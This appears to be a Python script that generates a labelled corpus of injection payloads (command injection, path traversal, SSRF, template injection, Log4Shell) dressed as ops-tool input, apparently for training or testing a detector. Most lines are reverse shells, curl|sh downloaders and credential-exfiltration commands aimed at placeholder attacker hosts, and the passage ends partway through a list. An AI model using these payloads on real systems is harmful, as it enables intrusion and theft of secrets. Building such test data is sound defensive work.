#!/usr/bin/env python3
"""Write attacks.jsonl: attacks carried in operations and infrastructure text.

The benign corpus (make_benign.py) holds what support desks, developer
portals, incident trackers, runbook wikis, paste services and CI webhooks
receive: shell procedures, config fragments, manifests, PowerShell, log lines,
postmortems, paths and URLs, DBA notes, alerts and chat.  The attacks below
wear the same clothes: a host name for a ping tool with `; curl ... | sh`, a
cron schedule with an extra line, a git branch name with `$(...)`, a pull
request title that breaks out of a CI `run:` step, a log viewer path with
`../`, a webhook URL pointed at the cloud metadata service, an alert
annotation that a server evaluates as a Jinja or Go template, a YAML config
upload with a Python object tag, Log4Shell in a user agent, SQL in an ops
dashboard filter, an incident title with an event handler, CRLF in a header
or log field, LDAP filter injection in a directory lookup.  About one value
in ten is a plain attack with no surrounding notation.

Every payload was composed for this corpus from hand-written pieces and
templates; none was copied from a public payload list or a dataset.  Attacker
hosts are reserved names and documentation addresses (attacker.example,
*.attacker.example, 203.0.113.0/24, 198.51.100.0/24); internal targets are
the real metadata, loopback, Kubernetes service and RFC 1918 addresses.

Standard library only, deterministic (random.Random(2102)); running the
script twice gives the same bytes.
"""
import base64
import json
import random
import urllib.parse
from pathlib import Path

RNG = random.Random(2102)
OUT = Path(__file__).with_name("attacks.jsonl")
MAX_LEN = 1800
SEEN = set()
LITERAL_COUNTS = {}


def pick(seq):
    return RNG.choice(seq)


def q(s):
    return urllib.parse.quote(s, safe="")


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def mixed_case(s):
    return "".join(c.upper() if c.isalpha() and RNG.random() < 0.5 else c.lower() for c in s)


def ps_enc(s):
    """PowerShell -EncodedCommand: base64 of UTF-16LE."""
    return base64.b64encode(s.encode("utf-16-le")).decode()


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def take(cat, items, gen, target):
    """Literal (class, value) pairs first, then templated ones until target unique values."""
    out = []
    for cls, v in items:
        assert isinstance(v, str) and 0 < len(v) <= MAX_LEN, (cls, v)
        if v in SEEN:
            raise SystemExit("duplicate literal in %s: %r" % (cat, v))
        SEEN.add(v)
        out.append((cls, v))
    if len(out) > target:
        raise SystemExit("too many literals in %s (%d > %d)" % (cat, len(out), target))
    LITERAL_COUNTS[cat] = len(out)
    tries = 0
    while len(out) < target:
        tries += 1
        if tries > 20000:
            raise SystemExit("template pool too small for %s" % cat)
        cls, v = gen()
        if v in SEEN or len(v) > MAX_LEN:
            continue
        SEEN.add(v)
        out.append((cls, v))
    return out


ATK = ["attacker.example", "203.0.113.66", "198.51.100.23", "exfil.attacker.example", "203.0.113.9", "c2.attacker.example"]
MD = "169.254.169.254"
HOSTS = ["web-03", "db-primary.internal", "cache-01", "10.0.3.7", "es-01", "lb-01.example.net", "worker-07"]


# ====================================================================== cmdi
def cmdi():
    curl_sh = "curl http://attacker.example/x|sh"
    lit = [
        ("healthcheck-host-semicolon-curl-sh", "db-primary.internal; curl -s http://attacker.example/i.sh | sh"),
        ("ping-host-subshell-write", "10.0.3.7$(id>/tmp/.p)"),
        ("traceroute-target-backticks-wget", "`wget -qO- http://203.0.113.66/t|sh`.example.com"),
        ("dns-lookup-host-pipe-nc", "example.com | nc 203.0.113.9 4444 -e /bin/sh"),
        ("hostname-and-shadow-exfil", "web-03 && cat /etc/shadow | curl -X POST --data-binary @- https://exfil.attacker.example/u"),
        ("hostname-or-reverse-shell", "nonexistent.invalid || bash -i >& /dev/tcp/198.51.100.23/443 0>&1"),
        ("hostname-newline-rm", "cache-01\nrm -rf /srv/www/shop/current"),
        ("cron-schedule-newline-extra-job", "0 3 * * *\n* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/9001 0>&1'"),
        ("cron-schedule-inline-command", "0 3 * * * /usr/bin/curl -fsSL http://attacker.example/k | bash #"),
        ("cron-command-field-chain", "/usr/local/bin/backup.sh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE op@attacker.example' >> /root/.ssh/authorized_keys"),
        ("backup-filename-subshell", "nightly-$(curl -s attacker.example/p|sh).tar.gz"),
        ("export-filename-semicolon-dropper", "report;wget http://198.51.100.23/a -O /tmp/a;chmod +x /tmp/a;/tmp/a;.csv"),
        ("upload-filename-backticks-sleep", "invoice`sleep 15`.pdf"),
        ("log-filename-newline-command", "app.log\ncurl -T /etc/passwd https://exfil.attacker.example/\n"),
        ("git-branch-name-semicolon+ifs", "feature/x;curl${IFS}-s${IFS}attacker.example/b|sh"),
        ("git-ref-subshell+ifs", "main$(curl${IFS}-s${IFS}http://attacker.example/r|sh)"),
        ("git-ls-remote-argument-upload-pack", "--upload-pack=touch /tmp/owned_by_ref"),
        ("git-repo-url-ext-transport", "ext::sh -c curl% -s% http://attacker.example/e|sh"),
        ("git-repo-url-ssh-proxycommand", "ssh://-oProxyCommand=curl${IFS}attacker.example/pc|sh/acme/webshop.git"),
        ("git-clone-argument-config-sshcommand", "--config=core.sshCommand=sh -c 'curl http://attacker.example/g | sh' git@github.com:acme/x.git"),
        ("kubectl-logs-pod-name-chain", "api-7d9f8c6b5-x2kqz; kubectl get secrets -A -o yaml | curl -T - https://exfil.attacker.example/s"),
        ("kubectl-namespace-subshell", "payments$(kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --serviceaccount=default:default)"),
        ("helm-release-name-chain", "search; helm template x evil --repo https://attacker.example/charts | kubectl apply -f -"),
        ("helm-set-value-quote-breakout", "2.14.3' ; curl -s http://198.51.100.23/hv | sh ; echo '"),
        ("ci-pr-title-script-injection", "Fix typo\"; curl -sSfL https://attacker.example/gh.sh | bash; echo \""),
        ("ci-branch-name-env-exfil+ifs", "zzz\";echo${IFS}\"$(env|base64)\"|curl${IFS}-d@-${IFS}attacker.example;#"),
        ("ci-commit-message-token-exfil", "bump deps\n$(curl -d \"t=$GITHUB_TOKEN\" https://exfil.attacker.example/t)"),
        ("ci-webhook-pusher-name-environ", "$(curl --data-binary @/proc/self/environ attacker.example)"),
        ("jenkins-param-quote-breakout", "main\" && curl attacker.example/j | sh && echo \""),
        ("tar-backup-name-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/upload/payload.sh"),
        ("rsync-destination-rsh-injection", "-e 'sh -c \"curl attacker.example/rs|sh\"' backup@nas01:/backup/"),
        ("ssh-host-proxycommand-argument", "-oProxyCommand=nc 203.0.113.9 8080 -e sh"),
        ("healthcheck-url-curl-output-argument", "http://example.com -o /var/www/html/shell.php http://attacker.example/shell.txt"),
        ("healthcheck-url-wget-post-file", "--post-file=/etc/passwd http://attacker.example/collect"),
        ("artifact-cleanup-find-exec-exfil", "/srv/artifacts -name '*.env' -exec curl -T {} https://exfil.attacker.example/ ;"),
        ("journalctl-unit-quote-breakout", "nginx.service' ; cat /root/.ssh/id_rsa ; echo '"),
        ("log-grep-pattern-quote-breakout", "ERROR' /dev/null; nc -e /bin/sh 203.0.113.66 4444; grep '"),
        ("windows-host-powershell-iex", "WEB01; IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"),
        ("windows-host-encodedcommand+base64", "WEB01 & powershell -nop -w hidden -enc " + ps_enc("iwr http://attacker.example/s.ps1 -UseBasicParsing | iex")),
        ("windows-host-certutil+caret", "WEB01 & c^e^r^t^u^t^i^l -urlcache -split -f http://198.51.100.23/b.exe %TEMP%\\b.exe & %TEMP%\\b.exe"),
        ("windows-share-name-ampersand-user-add", "Finance & net user helpdesk2 P@ssw0rd-fake! /add & net localgroup Administrators helpdesk2 /add"),
        ("perl-log-viewer-open-trailing-pipe", "/bin/busybox nc 203.0.113.9 9001 -e sh|"),
        ("ansible-host-pattern-module-injection", "webservers -m shell -a 'curl http://attacker.example/an | sh'"),
        ("docker-image-field-privileged-mount", "-v /:/host --privileged alpine chroot /host sh -c 'curl attacker.example/d|sh' #"),
        ("docker-tag-semicolon-run", "latest; docker run -d --net=host --privileged -v /:/mnt 198.51.100.23:5000/miner"),
        ("systemctl-unit-name-chain", "nginx; systemctl stop auditd; iptables -F"),
        ("git-author-email-newline", "dev@example.com\ncurl http://attacker.example/m | sh"),
        ("zip-archive-name-tt-argument", "out.zip -T -TT 'sh -c \"curl attacker.example/z|sh\" #'"),
        ("alert-email-sendmail-arguments", "ops@example.com -OQueueDirectory=/tmp -X/var/www/html/mail.php"),
        ("cgi-healthcheck-user-agent-shellshock", "() { :; }; /bin/bash -c 'curl http://attacker.example/ss | sh'"),
        ("psql-connection-string-meta-shell", "host=db-primary dbname=shop' -c '\\! curl attacker.example/pq|sh' '"),
        ("helm-repo-url-backticks", "https://charts.example.com/stable`curl attacker.example/h|sh`"),
        ("nmap-target-argument-file-read", "10.0.3.7 -iL /etc/shadow -oN /var/www/html/scan.txt"),
        ("log-filter-awk-system", "/ERROR/ { system(\"curl -s attacker.example/a|sh\") }"),
        ("log-redaction-sed-e-command", "s/password=[^ ]*/password=***/;1e curl -s http://attacker.example/sed|sh"),
        ("host-field-semicolon+ifs", "10.0.3.7;cat${IFS}/etc/passwd"),
        ("host-field-brace-expansion", "cache-01;{curl,-s,http://attacker.example/br}|sh"),
        ("host-field-semicolon+urlenc", q("web-01;curl attacker.example/q|sh")),
        ("host-field-newline+urlenc", "es-01%0Acurl%20-s%20attacker.example%2Fnl%7Csh%0A"),
        ("host-field-quote-splitting", "web-01;c''u''r''l -s http://attacker.example/qq|s''h"),
        ("host-field-backslash-splitting", "web-01;w\\get -q -O- http://attacker.example/bs|b\\ash"),
        ("host-field-printf-hex", "x;$(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x73\\x68\\x61\\x64\\x6f\\x77')"),
        ("host-field-base64-pipe+base64", "x;echo %s|base64 -d|sh" % b64(curl_sh)),
        ("deploy-target-variable-concat+var-splitting", "prod;a=cu;b=rl;$a$b -s attacker.example/v|sh"),
        ("chatops-command-argument-subshell", "/deploy checkout $(curl -s http://attacker.example/co|sh) --env prod"),
        ("webhook-repository-name-backticks", "acme/webshop`curl -s 203.0.113.66/wr|sh`"),
        ("python-subprocess-shell-true-host", "8.8.8.8 -c 1 && python3 -c 'import socket,os;s=socket.create_connection((\"203.0.113.9\",9002));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.system(\"sh\")'"),
        ("terraform-var-value-quote-breakout", "prod\" && curl -s attacker.example/tf | sh && echo \""),
        ("plain-semicolon-id", "; id"),
        ("plain-pipe-passwd", "| cat /etc/passwd"),
        ("plain-subshell-whoami", "$(whoami)"),
        ("plain-backticks-uname", "`uname -a`"),
        ("plain-and-ping-delay", "&& ping -c 12 127.0.0.1"),
        ("plain-newline-wget", "\nwget http://attacker.example/p -O /tmp/p\n"),
        ("plain-or-dns-exfil", "|| nslookup $(hostname).exfil.attacker.example"),
        ("plain-semicolon-sleep", "; sleep 20 #"),
        ("plain-ampersand-curl", "& curl attacker.example &"),
        ("plain-pipe-nc-shell", "| nc 203.0.113.9 4444 -e /bin/sh"),
        ("notify-script-incident-title-russian-subshell", "Сбой оплаты $(curl -s attacker.example/ru|sh)"),
    ]
    seps = [("semicolon", "; %s"), ("and", " && %s"), ("pipe", " | %s"), ("subshell", "$(%s)"), ("backticks", "`%s`"), ("newline", "\n%s"), ("or", " || %s")]
    pays = ["curl -s http://%s/%s | sh", "wget -qO- http://%s/%s | bash", "nc %s 4444 -e /bin/sh #%s", "curl -F f=@/etc/shadow http://%s/%s"]
    fields = [("healthcheck-host", lambda: pick(HOSTS)), ("cron-command", lambda: "/usr/local/bin/%s.sh" % pick(["backup", "cleanup", "rotate"])),
              ("git-branch", lambda: "release/%d.%d" % (RNG.randint(1, 4), RNG.randint(0, 20))), ("export-filename", lambda: "export-%d.csv" % RNG.randint(100, 999)),
              ("kubectl-pod", lambda: "%s-%x" % (pick(["api", "worker", "web"]), RNG.getrandbits(24)))]

    def gen():
        fname, fv = pick(fields)
        sname, sfmt = pick(seps)
        p = pick(pays) % (pick(ATK), pick(["x", "s.sh", "run", "a", "z"]))
        return "%s-%s-shell" % (fname, sname), fv() + (sfmt % p)
    return take("cmdi", lit, gen, 92)


# ====================================================================== traversal
def traversal():
    lit = [
        ("log-viewer-file-dotdot-passwd", "file=../../../../etc/passwd"),
        ("log-viewer-source-prefix-dotdot-shadow", "/var/log/nginx/../../../etc/shadow"),
        ("log-viewer-name-dotdot-environ", "nginx/access.log/../../../../proc/self/environ"),
        ("log-viewer-dotdot-ssh-key", "../../../../root/.ssh/id_rsa"),
        ("backup-archive-entry-zip-slip-cron", "../../../../../etc/cron.d/zz-backup"),
        ("backup-restore-target-dotdot-sudoers", "/srv/restore/../../etc/sudoers.d/90-restore"),
        ("artifact-download-dotdot-jenkins-master-key", "artifacts/../../../../var/lib/jenkins/secrets/master.key"),
        ("artifact-download-build-dotdot-credentials", "build-1287/../../../credentials.xml"),
        ("artifact-path-dotdot-sa-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("config-include-yaml-include-tag", "!include ../../../../etc/passwd"),
        ("config-include-list-aws-credentials", "includes:\n  - ../../../../home/deploy/.aws/credentials"),
        ("config-include-nginx-directive", "include /etc/nginx/conf.d/../../../root/.bash_history;"),
        ("log-viewer-windows-dotdot-win-ini", "..\\..\\..\\..\\Windows\\win.ini"),
        ("log-viewer-windows-dotdot-web-config", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
        ("log-viewer-windows-iis-dotdot-sam", "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
        ("artifact-download-dotdot+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
        ("log-viewer-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow"),
        ("log-viewer-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        ("log-viewer-dotdot+nested-strip", "....//....//....//....//etc/passwd"),
        ("log-viewer-dotdot+backslash-urlenc", "..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
        ("log-viewer-dotdot+null-byte", "../../../../etc/passwd%00.log"),
        ("log-viewer-dotdot+mixed-separators", "..\\/..\\/..\\/..\\/etc/shadow"),
        ("log-viewer-dotdot+dot-urlenc", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/group"),
        ("log-viewer-absolute-path-proc", "/proc/self/cmdline"),
        ("log-viewer-absolute-path-shadow", "/etc/shadow"),
        ("deploy-artifact-dotdot-git-config", "../../.git/config"),
        ("config-download-dotdot-env", "../../../srv/www/shop/shared/.env"),
        ("iac-state-download-dotdot-tfstate", "../../terraform.tfstate"),
        ("log-viewer-dotdot-docker-config", "/var/lib/docker/../../../root/.docker/config.json"),
        ("artifact-download-dotdot-jenkins-initial-password", "../../../../var/jenkins_home/secrets/initialAdminPassword"),
        ("ansible-vars-file-dotdot-vault", "../group_vars/all/vault.yml"),
        ("backup-restore-entry-dotdot-systemd-unit", "../../../../etc/systemd/system/restore-helper.service"),
        ("kubeconfig-upload-path-dotdot", "../../../../home/ubuntu/.kube/config"),
        ("log-viewer-dotdot-gshadow", "/var/log/../../etc/gshadow"),
        ("runbook-attachment-dotdot-bash-history", "attachments/../../../../home/ops/.bash_history"),
        ("helm-values-file-dotdot", "values-prod.yaml/../../../../etc/kubernetes/admin.conf"),
        ("paste-raw-id-dotdot-app-config", "raw/../../../../opt/app/config/secrets.yml"),
        ("ci-cache-key-dotdot-runner-token", "../../../../etc/gitlab-runner/config.toml"),
        ("log-viewer-dotdot-mysql-debian-cnf", "mysql/../../../etc/mysql/debian.cnf"),
        ("backup-restore-tar-entry-dotdot-authorized-keys", "./../../../../root/.ssh/authorized_keys"),
        ("log-viewer-journal-dotdot-pg-pass", "../../../../var/lib/postgresql/.pgpass"),
        ("windows-log-path-dotdot-unattend", "..\\..\\..\\..\\Windows\\Panther\\Unattend.xml"),
        ("plain-dotdot-passwd", "../../../etc/passwd"),
        ("plain-windows-dotdot-boot-ini", "..\\..\\..\\boot.ini"),
        ("plain-dotdot-environ", "../../../../proc/self/environ"),
        ("plain-dotdot-hosts+urlenc", "..%2F..%2F..%2Fetc%2Fhosts"),
        ("plain-dotdot-id-rsa", "../../../home/ubuntu/.ssh/id_rsa"),
        ("plain-windows-dotdot-hosts", "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"),
    ]
    bases = ["logs/", "artifacts/build-%d/" % 1287, "backups/", "/var/log/app/", "restore/", "includes/"]
    targets = ["etc/passwd", "etc/shadow", "root/.ssh/id_ed25519", "proc/self/environ", "var/run/secrets/kubernetes.io/serviceaccount/token",
               "home/deploy/.aws/credentials", "etc/kubernetes/pki/ca.key", "opt/app/.env"]

    def gen():
        depth = RNG.randint(3, 8)
        return "path-dotdot-%d" % depth, pick(bases) + "../" * depth + pick(targets)
    return take("traversal", lit, gen, 56)


# ====================================================================== ssrf
def ssrf():
    lit = [
        ("webhook-url-aws-metadata-iam", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("healthcheck-url-aws-user-data", "http://169.254.169.254/latest/user-data"),
        ("webhook-json-gcp-metadata-token", '{"url":"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token","headers":{"Metadata-Flavor":"Google"}}'),
        ("webhook-json-azure-imds-token", '{"url":"http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/","headers":{"Metadata":"true"}}'),
        ("healthcheck-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        ("healthcheck-url-oracle-metadata", "http://169.254.169.254/opc/v2/instance/"),
        ("healthcheck-url-digitalocean-metadata", "http://169.254.169.254/metadata/v1.json"),
        ("webhook-url-ecs-task-credentials", "http://169.254.170.2/v2/credentials/"),
        ("registry-url-kubernetes-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
        ("healthcheck-url-kubelet-pods", "https://10.0.3.17:10250/pods"),
        ("healthcheck-url-kubelet-readonly", "http://127.0.0.1:10255/pods"),
        ("webhook-url-etcd-keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
        ("healthcheck-url-docker-api", "http://127.0.0.1:2375/containers/json?all=1"),
        ("webhook-url-consul-kv", "http://consul.service.consul:8500/v1/kv/?recurse"),
        ("healthcheck-url-spring-actuator-env", "http://127.0.0.1:8080/actuator/env"),
        ("healthcheck-url-spring-actuator-heapdump", "http://localhost:8081/actuator/heapdump"),
        ("webhook-url-prometheus-admin-delete", "http://prometheus.observability.svc:9090/api/v1/admin/tsdb/delete_series?match[]={__name__=~\".+\"}"),
        ("webhook-url-gopher-redis-cron", "gopher://127.0.0.1:6379/_" + q("CONFIG SET dir /var/spool/cron/crontabs\r\nCONFIG SET dbfilename root\r\nSET x \"\\n* * * * * curl -s attacker.example/rc|sh\\n\"\r\nSAVE\r\n").replace("%2F", "/")),
        ("webhook-url-dict-redis-info", "dict://127.0.0.1:6379/INFO"),
        ("avatar-url-file-scheme", "file:///etc/passwd"),
        ("webhook-url-aws-metadata+decimal-ip", "http://2852039166/latest/meta-data/iam/security-credentials/"),
        ("webhook-url-aws-metadata+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
        ("webhook-url-aws-metadata+octal-ip", "http://0251.0376.0251.0376/latest/user-data"),
        ("webhook-url-aws-metadata+ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
        ("webhook-url-aws-metadata+ipv6-mapped-hex", "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/info"),
        ("webhook-url-dns-rebinding-host", "http://169.254.169.254.rebind.attacker.example/latest/meta-data/"),
        ("healthcheck-url-loopback+short-form", "http://127.1:2375/info"),
        ("healthcheck-url-zero-host", "http://0:8500/v1/agent/self"),
        ("webhook-url-userinfo-confusion", "http://status.example.com@169.254.169.254/latest/meta-data/"),
        ("webhook-url-backslash-parser-confusion", "http://169.254.169.254\\@attacker.example/latest/meta-data/"),
        ("webhook-url-ipv6-full-loopback-docker", "http://[0:0:0:0:0:ffff:127.0.0.1]:2375/containers/json"),
        ("webhook-url-open-redirect-to-metadata", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
        ("image-registry-mirror-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/eks-node-role"),
        ("alertmanager-receiver-yaml-webhook-metadata", "receivers:\n  - name: team-x\n    webhook_configs:\n      - url: http://169.254.169.254/latest/meta-data/iam/security-credentials/\n        send_resolved: true"),
        ("webhook-url-jenkins-script-console", "http://jenkins.internal:8080/scriptText?script=" + q("println 'id'.execute().text")),
        ("artifact-url-unc-ntlm-leak", "\\\\203.0.113.9\\share\\build.zip"),
        ("webhook-json-metadata-events", '{"name":"deploy-notify","url":"http://169.254.169.254/latest/meta-data/","events":["push","tag"],"active":true}'),
        ("datasource-url-elasticsearch-internal-dump", "http://10.0.3.7:9200/_search?q=password&size=10000"),
        ("helm-repo-url-internal-vault", "http://vault.vault.svc:8200/v1/secret/data/ops?list=true"),
        ("healthcheck-url-gcp-metadata-legacy", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
        ("webhook-url-kubernetes-api-ip", "https://10.96.0.1/api/v1/namespaces/default/secrets"),
        ("webhook-url-redis-http-smuggle", "http://127.0.0.1:6379/%0D%0ASET%20pwn%201%0D%0A"),
        ("webhook-url-memcached-gopher", "gopher://127.0.0.1:11211/_stats%0D%0Aquit%0D%0A"),
        ("webhook-url-smtp-gopher", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cops%40example.com%3E%0D%0ARCPT%20TO%3A%3Cvictim%40example.com%3E%0D%0ADATA%0D%0ASubject%3A%20reset%0D%0A%0D%0Ahttps%3A%2F%2Fattacker.example%2Freset%0D%0A.%0D%0AQUIT%0D%0A"),
        ("healthcheck-url-metadata+urlenc-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
        ("webhook-url-localhost-admin-mixed-case", "http://LocalHost:15672/api/definitions"),
        ("remote-config-url-kube-proxy-metrics", "http://127.0.0.1:10249/configz"),
        ("webhook-url-rancher-metadata", "http://rancher-metadata/latest/self/host"),
        ("webhook-url-azure-wireserver", "http://168.63.129.16/machine?comp=goalstate"),
        ("plain-metadata-root", "http://169.254.169.254/"),
        ("plain-localhost-admin", "http://localhost/admin"),
        ("plain-loopback-redis-dict", "dict://127.0.0.1:6379/CONFIG%20GET%20*"),
        ("plain-file-shadow", "file:///etc/shadow"),
        ("plain-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
        ("plain-decimal-loopback", "http://2130706433:8080/"),
    ]
    internal = ["http://127.0.0.1:%d/%s", "http://localhost:%d/%s", "http://10.0.3.7:%d/%s", "http://[::1]:%d/%s"]
    svc = [(9200, "_cat/indices"), (8500, "v1/acl/tokens"), (2375, "images/json"), (15672, "api/users"), (8200, "v1/sys/seal-status"),
           (9090, "api/v1/status/config"), (8080, "actuator/env"), (5984, "_all_dbs"), (4040, "api/v1/applications")]
    ctxs = ["webhook-url", "healthcheck-url", "registry-url", "status-page-probe"]

    def gen():
        port, path = pick(svc)
        return "%s-internal-service-%d" % (pick(ctxs), port), pick(internal) % (port, path)
    return take("ssrf", lit, gen, 60)


# ====================================================================== code
def code():
    pickle_txt = "cos\nsystem\n(S'curl -s http://attacker.example/pk | sh'\ntR."
    php_cls = "App\\Jobs\\ShellHook"
    php_obj = 'O:%d:"%s":1:{%s%s}' % (len(php_cls), php_cls, php_s("cmd"), php_s("curl attacker.example/php|sh"))
    lit = [
        # Helm / Go templates evaluated by a portal that renders user-supplied templates
        ("helm-tpl-lookup-kube-system-secrets", "{{ lookup \"v1\" \"Secret\" \"kube-system\" \"\" | toJson }}"),
        ("helm-values-tpl-lookup-namespace-secret", "replicaCount: 1\nnote: '{{ (lookup \"v1\" \"Secret\" \"payments\" \"db-credentials\").data.password | b64dec }}'"),
        ("go-template-sprig-env-secret", "{{ env \"AWS_SECRET_ACCESS_KEY\" }}"),
        ("go-template-sprig-expandenv", "Deploy of {{ expandenv \"$VAULT_TOKEN:$DATABASE_URL\" }} finished"),
        ("gomplate-file-read", "{{ file.Read \"/var/run/secrets/kubernetes.io/serviceaccount/token\" }}"),
        ("gomplate-define-datasource-metadata", "{{ defineDatasource \"md\" \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" }}{{ include \"md\" }}"),
        ("go-template-range-context-dump", "{{ range $k, $v := . }}{{ $k }}={{ $v }};{{ end }}"),
        ("notification-template-consul-template-vault-secret", "{{ with secret \"secret/data/ops/db\" }}{{ .Data.data.password }}{{ end }}"),
        ("notification-template-consul-template-plugin-exec", "{{ plugin \"/bin/sh\" \"-c\" \"curl -s attacker.example/ct|sh\" }}"),
        # Jinja2 (Ansible, Salt, Airflow, alert annotation renderers)
        ("alert-annotation-jinja2-globals-popen", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        ("incident-template-jinja2-cycler-os", "Incident {{ cycler.__init__.__globals__.os.popen('curl -s attacker.example/j2|sh').read() }}"),
        ("runbook-jinja2-lipsum-read-shadow", "{{ lipsum.__globals__['os'].popen('cat /etc/shadow').read() }}"),
        ("jinja2-subclasses-popen-loop", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c('id', shell=True, stdout=-1).communicate()[0] }}{% endif %}{% endfor %}"),
        ("jinja2-config-leak", "{{ config.items() }}"),
        ("jinja2-request-globals-open", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
        ("ansible-var-lookup-pipe", "{{ lookup('pipe', 'curl -s http://attacker.example/a | sh') }}"),
        ("ansible-var-lookup-file-shadow", "{{ lookup('file', '/etc/shadow') }}"),
        ("ansible-var-query-pipe-env", "{{ query('pipe', 'env') | join(',') }}"),
        ("ansible-extra-vars-yaml-lookup", "deploy_msg: \"{{ lookup('ansible.builtin.pipe', 'cat ~/.ssh/id_rsa') }}\""),
        ("jinja2-attr-filter-bypass+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
        ("jinja2-request-attr-chain-popen+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
        ("salt-pillar-jinja-cmd-run", "{{ salt['cmd.run']('curl -s http://attacker.example/salt | sh') }}"),
        ("airflow-param-jinja-namespace-os", "{{ namespace.__init__.__globals__.os.system('id > /tmp/af') }}"),
        # Java template engines and expression languages (Jenkins, Confluence, Spring)
        ("alert-email-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"curl -s attacker.example/fm\")}"),
        ("runbook-wiki-velocity-runtime", "#set($rt=$class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
        ("wiki-page-title-ognl-runtime", "${@java.lang.Runtime@getRuntime().exec('curl http://attacker.example/o')}"),
        ("ops-portal-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel_ops')}"),
        ("routing-expression-header-spel", "T(java.lang.Runtime).getRuntime().exec(\"curl attacker.example/rt\")"),
        ("spel-processbuilder-bash", "#{new java.lang.ProcessBuilder({'/bin/sh','-c','curl -s attacker.example/pb|sh'}).start()}"),
        ("jenkins-pipeline-groovy-execute", "\"curl http://attacker.example/jk\".execute().text"),
        ("jenkins-script-field-groovy-runtime", "node { sh 'true' }\nRuntime.getRuntime().exec(['sh','-c','curl -s attacker.example/gr|sh'] as String[])"),
        ("java-el-runtime-bean", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
        ("mvel-runtime-exec", "@{java.lang.Runtime.getRuntime().exec('curl attacker.example/mv')}"),
        # Ruby / Node / Python templates
        ("chef-erb-backticks", "<%= `curl -s attacker.example/erb | sh` %>"),
        ("puppet-erb-file-read", "<%= File.read('/etc/puppetlabs/puppet/ssl/private_keys/' + @fqdn + '.pem') %>"),
        ("ejs-child-process", "<%= process.mainModule.require('child_process').execSync('id') %>"),
        ("mako-import-os", "${__import__('os').popen('curl -s attacker.example/mk|sh').read()}"),
        ("pug-interpolation-child-process", "p Runbook #{global.process.mainModule.require('child_process').execSync('curl -s attacker.example/pug|sh')}"),
        ("nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
        ("threshold-expression-python-eval", "__import__('os').system('curl -s attacker.example/ev|sh')"),
        ("threshold-expression-python-eval-subclasses", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
        ("hcl-template-file-read", "${file(\"/home/runner/.aws/credentials\")}"),
        # Log4Shell
        ("user-agent-log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
        ("log-line-log4shell-rmi", "user=ops ${jndi:rmi://203.0.113.66:1099/obj} logged in"),
        ("incident-title-log4shell+lookup-nesting", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
        ("user-agent-log4shell+default-value-nesting", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.23:1389/n}"),
